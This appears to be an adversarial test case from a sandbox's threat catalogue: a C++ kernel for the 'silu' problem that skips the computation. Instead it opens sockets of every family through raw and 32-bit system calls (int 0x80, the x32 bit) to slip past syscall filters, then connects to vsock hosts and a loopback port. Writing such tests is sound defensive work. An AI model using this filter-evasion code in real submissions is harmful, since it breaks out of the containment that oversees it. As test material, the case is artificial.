// number: 46
// source: threat catalogue G; 32-bit system calls as a way around filters
// tries: opens sockets of every family by system call, also by the 32-bit entry, and knocks by vsock and loopback
// problem: silu
// expect: wrong crashed
// naive: exempt: it is after the network, not after a verdict
#include <linux/vm_sockets.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <tvm/ffi/container/tensor.h>
#include <tvm/ffi/function.h>
#include <unistd.h>

static void knock(int fd) {
  if (fd < 0) return;
  sockaddr_vm machine = {.svm_family = AF_VSOCK, .svm_port = @VSOCK_PORT@};
  for (machine.svm_cid = 1; machine.svm_cid < 4; ++machine.svm_cid)
    connect(fd, reinterpret_cast<sockaddr*>(&machine), sizeof machine);
  sockaddr_in local = {};
  local.sin_family = AF_INET, local.sin_port = htons(@TCP_PORT@), local.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  connect(fd, reinterpret_cast<sockaddr*>(&local), sizeof local);
}

void attack(tvm::ffi::TensorView x, tvm::ffi::TensorView y) {
  for (int family = 1; family < 46; ++family)
    for (int style : {1, 2, 3, 5}) {
      knock(syscall(SYS_socket, family, style, 0));
      int pair[2];
      if (!socketpair(family, style, 0, pair)) knock(pair[0]);
    }
  if (fork() == 0) {  // a filter may kill for it
    long made = 359;  // socket, as the 32-bit table numbers it
    asm volatile("int $0x80" : "+a"(made) : "b"(2L), "c"(1L), "d"(0L) : "memory");
    knock(static_cast<int>(made));
    knock(syscall(0x40000000 | SYS_socket, AF_INET, SOCK_STREAM, 0));
    _exit(0);
  }
}
TVM_FFI_DLL_EXPORT_TYPED_FUNC(run, attack);
